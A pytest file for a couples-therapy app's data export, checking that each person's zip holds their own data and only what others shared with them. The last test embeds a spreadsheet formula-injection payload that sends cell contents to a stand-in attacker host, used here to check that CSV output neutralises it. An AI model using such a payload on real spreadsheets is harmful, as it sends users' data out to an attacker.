"""Export: a person takes all of their own data, and of others' only what was shared with them."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import dataclass
from datetime import timedelta

from sqlalchemy.engine import Engine
from sqlmodel import select

from program.course import checkins, reflections, safety
from program.course.curriculum import CHECKIN_KEYS
from program.infra.db import read_session, write_session
from program.infra.models import (
    JointPause,
    PauseReason,
    QuestionnaireSubmission,
    Role,
    SafetyScreen,
    TherapistNote,
    Visibility,
)
from program.privacy import couples, grants
from program.privacy.tables import TherapistGrant
from program.privacy.viewer import Viewer
from program.your_data import export
from tests.factories import make_person
from tests.program_helpers import PROGRAM, T0, answer_all, finish_assessment

KEY = b"k" * 32
BASELINE = PROGRAM.assessment.overview.questionnaire
LATER = T0 + timedelta(days=9)


def _pair(engine: Engine, first: Viewer, second: Viewer) -> int:
    with write_session(engine) as session:
        code = couples.create_couple(session=session, viewer=first, key=KEY, now=T0).code
    with write_session(engine) as session:
        return couples.join_couple(session=session, viewer=second, code=code, key=KEY, now=T0)


def _write(engine: Engine, viewer: Viewer, context: str, body: str, visibility: Visibility) -> None:
    with write_session(engine) as session:
        reflections.save_text(
            session=session, viewer=viewer, context=context, body=body, visibility=visibility, now=T0
        )


def _checkin(engine: Engine, viewer: Viewer, note: str, visibility: Visibility, when: object = T0) -> None:
    moment = T0 if when is T0 else LATER
    with write_session(engine) as session:
        checkins.save_checkin(
            session=session, viewer=viewer, ratings=dict.fromkeys(CHECKIN_KEYS, 4), note=note,
            note_visibility=visibility, today=moment.date(), now=moment,
        )  # fmt: skip


def _texts_of(engine: Engine, viewer: Viewer, tag: str, when: object = T0) -> None:
    """One private and one shared text of each kind, each naming its writer and tag."""
    name = viewer.display_name
    _write(engine, viewer, f"{tag}:private", f"{name} PRIVATE reflection {tag}", Visibility.PRIVATE)
    _write(engine, viewer, f"{tag}:shared", f"{name} SHARED reflection {tag}", Visibility.PARTNER)
    _write(
        engine, viewer, f"{tag}:therapist", f"{name} THERAPIST-ONLY reflection {tag}", Visibility.THERAPIST
    )
    _checkin(engine, viewer, f"{name} PRIVATE note {tag}", Visibility.PRIVATE, when)


@dataclass(frozen=True)
class Story:
    ana: Viewer
    ben: Viewer
    cai: Viewer
    kim: Viewer


def _ana_ben_then_cai(engine: Engine) -> Story:
    """Ana and Ben, with therapist Dr Kim (notes, grants, a view) and safety screens; Ben leaves; Ana
    pairs with Cai. Everybody writes private, shared and therapist-only texts."""
    ana, ben, cai = (make_person(engine, n, name=n.title()) for n in ("ana", "ben", "cai"))
    kim = make_person(engine, "dr.kim", Role.THERAPIST, name="Dr Kim")
    old = _pair(engine, ana, ben)
    for partner in (ana, ben):
        finish_assessment(engine, partner)
        _texts_of(engine, partner, "old")
    with write_session(engine) as session:
        for partner in (ana, ben):
            session.add(
                TherapistGrant(couple_id=old, therapist_id=kim.person_id, partner_id=partner.person_id)
            )
            session.add(SafetyScreen(person_id=partner.person_id, answers={"fear": 3}, flagged=True))
        session.add(TherapistNote(therapist_id=kim.person_id, couple_id=old, body="KIM'S SESSION NOTE"))
    with write_session(engine) as session:
        grants.open_couple(session=session, viewer=kim, couple_id=old, what="progress charts")
        # Ben tells Dr Kim his safety check needs attention: his to take, never Ana's, nor Dr Kim's.
        safety.share_attention(session=session, viewer=ben, therapist_id=kim.person_id, share=True)
    with write_session(engine) as session:
        couples.leave_couple(session=session, viewer=ben, now=T0 + timedelta(days=1))
    new = _pair(engine, ana, cai)
    answer_all(engine, cai, BASELINE, "baseline", 7)
    _texts_of(engine, ana, "new", LATER)
    _texts_of(engine, cai, "new", LATER)
    with write_session(engine) as session:
        session.add(
            TherapistNote(therapist_id=kim.person_id, couple_id=new, body="KIM'S NOTE ON ANA AND CAI")
        )
        # Ana paused the old couple for a while; Cai now pauses for his safety, which Ana must never learn.
        session.add(
            JointPause(person_id=ana.person_id, couple_id=old, reason=PauseReason.BUSY, ended_at=LATER)
        )
        session.add(JointPause(person_id=cai.person_id, couple_id=new, reason=PauseReason.SAFETY))
    return Story(ana, ben, cai, kim)


def _export(engine: Engine, viewer: Viewer) -> dict[str, str]:
    with read_session(engine) as session:
        data = export.export_zip(session=session, viewer=viewer, program=PROGRAM, now=LATER)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_file_parses_and_the_readme_describes_every_file(engine: Engine) -> None:
    """The zip holds README.txt and the described JSON and CSV files, each readable, none undescribed."""
    story = _ana_ben_then_cai(engine)
    files = _export(engine, story.ana)
    readme = files.pop("README.txt")
    assert set(files) == set(export.FILES)
    for name, text in files.items():
        assert f"  {name}: " in readme
        if name.endswith(".json"):
            json.loads(text)
        else:
            assert name.endswith(".csv") and _csv_rows(text) is not None


def test_export_holds_all_of_ana_s_own_data_across_both_couples(engine: Engine) -> None:
    """Her account, both couples with her partners' display names, her texts with their sharing choice,
    her check-ins, answers with scores, her own safety screen, grants, the view record and her audit trail."""
    story = _ana_ben_then_cai(engine)
    files = _export(engine, story.ana)
    account = json.loads(files["account.json"])
    assert (
        account["username"] == "ana" and account["display_name"] == "Ana" and "password_hash" not in account
    )
    couple_rows = _csv_rows(files["couples.csv"])
    assert [(r["partner_display_name"], r["current"]) for r in couple_rows] == [
        ("Ben", "False"),
        ("Cai", "True"),
    ]
    mine = {(r["body"], r["visibility"]) for r in _csv_rows(files["reflections.csv"])}
    for tag in ("old", "new"):
        assert (f"Ana PRIVATE reflection {tag}", "private") in mine
        assert (f"Ana SHARED reflection {tag}", "partner") in mine
        assert (f"Ana THERAPIST-ONLY reflection {tag}", "therapist") in mine
    notes = [r["note"] for r in _csv_rows(files["checkins.csv"])]
    assert notes == ["Ana PRIVATE note old", "Ana PRIVATE note new"]
    questionnaires = json.loads(files["questionnaires.json"])
    with read_session(engine) as session:
        own_count = len(
            session.exec(
                select(QuestionnaireSubmission).where(
                    QuestionnaireSubmission.person_id == story.ana.person_id
                )
            ).all()
        )
    assert len(questionnaires) == own_count > 0
    baseline = next(q for q in questionnaires if q["questionnaire"] == BASELINE)
    assert set(baseline["answers"].values()) == {5} and baseline["scores"]
    assert json.loads(files["safety_screens.json"]) == [
        {"submitted_at": json.loads(files["safety_screens.json"])[0]["submitted_at"], "form": "full",
         "answers": {"fear": 3}, "flagged": True}
    ]  # fmt: skip
    grants = _csv_rows(files["therapist_grants.csv"])
    assert [(g["therapist_display_name"], g["revoked_at"] != "") for g in grants] == [("Dr Kim", True)]
    views = _csv_rows(files["therapist_views.csv"])
    assert [(v["therapist_display_name"], v["what"]) for v in views] == [("Dr Kim", "progress charts")]
    actions = [r["action"] for r in _csv_rows(files["audit_events.csv"])]
    assert "account.registered" in actions and actions.count("couple.created") == 2


def test_export_holds_nothing_private_of_former_or_current_partners_nor_therapist_notes(
    engine: Engine,
) -> None:
    """Ben's and Cai's private and therapist-only texts, their answers, Ben's safety screen and Dr Kim's
    notes appear nowhere; of others' texts, only what Cai shares with Ana now."""
    story = _ana_ben_then_cai(engine)
    files = _export(engine, story.ana)
    everything = "\n".join(files.values())
    for leaked in (
        "Ben PRIVATE", "Ben THERAPIST-ONLY", "Cai PRIVATE", "Cai THERAPIST-ONLY", "KIM'S", "Ben SHARED",
        "$2b$",  # a bcrypt hash, anyone's
        "safety.attention",  # the audit action of Ben telling Dr Kim his check needs attention
    ):  # fmt: skip
        assert leaked not in everything, leaked
    assert [(p["reason"], p["ended_at"] != "") for p in _csv_rows(files["pauses.csv"])] == [("busy", True)]
    shared = json.loads(files["shared_with_me.json"])
    assert [(s["from"], s["text"]) for s in shared] == [("Cai", "Cai SHARED reflection new")]
    assert "ben" not in {r["partner_display_name"] for r in _csv_rows(files["couples.csv"])}  # no usernames
    cai_answers = {7}  # Cai answered every item 7; Ana never did
    assert all(not cai_answers & set(q["answers"].values()) for q in json.loads(files["questionnaires.json"]))
    assert json.loads(files["safety_screens.json"])[0]["answers"] == {"fear": 3}
    assert len(json.loads(files["safety_screens.json"])) == 1


def test_ben_s_export_after_leaving_holds_none_of_ana_s_texts_from_either_couple(engine: Engine) -> None:
    """The partner who left takes his own data only: Ana's shared text from their couple stays hers."""
    story = _ana_ben_then_cai(engine)
    files = _export(engine, story.ben)
    everything = "\n".join(files.values())
    assert "safety.attention_shared" in [r["action"] for r in _csv_rows(files["audit_events.csv"])]
    assert [g["share_safety_screen"] for g in _csv_rows(files["therapist_grants.csv"])] == ["True"]
    assert "Ben PRIVATE reflection old" in everything
    assert "Ana " not in everything and "Cai " not in everything and "KIM'S" not in everything


def test_a_therapist_s_export_holds_no_session_notes_or_partner_texts(engine: Engine) -> None:
    """A therapist's export is their account, grants and views, without notes or anything a partner wrote."""
    story = _ana_ben_then_cai(engine)
    files = _export(engine, story.kim)
    everything = "\n".join(files.values())
    for leaked in ("KIM'S", "PRIVATE", "SHARED", "THERAPIST-ONLY", "$2b$", "attention_shared"):
        assert leaked not in everything, leaked
    assert {g["share_safety_screen"] for g in _csv_rows(files["therapist_grants.csv"])} == {""}
    assert [v["what"] for v in _csv_rows(files["therapist_views.csv"])] == ["progress charts"]


def test_formula_like_text_is_neutralised_in_csv_and_exact_in_json(engine: Engine) -> None:
    """A text starting with '=' opens in a spreadsheet as text, not as a formula that could call out."""
    ana, ben = make_person(engine, "ana", name="Ana"), make_person(engine, "ben", name="Ben")
    _pair(engine, ana, ben)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _write(engine, ana, "old:x", hostile, Visibility.PARTNER)
    _checkin(engine, ana, "+1 looks like a number", Visibility.PRIVATE)
    files = _export(engine, ana)
    assert [r["body"] for r in _csv_rows(files["reflections.csv"])] == ["'" + hostile]
    assert [r["note"] for r in _csv_rows(files["checkins.csv"])] == ["'+1 looks like a number"]
    ben_files = _export(engine, ben)
    assert [s["text"] for s in json.loads(ben_files["shared_with_me.json"])] == [hostile]
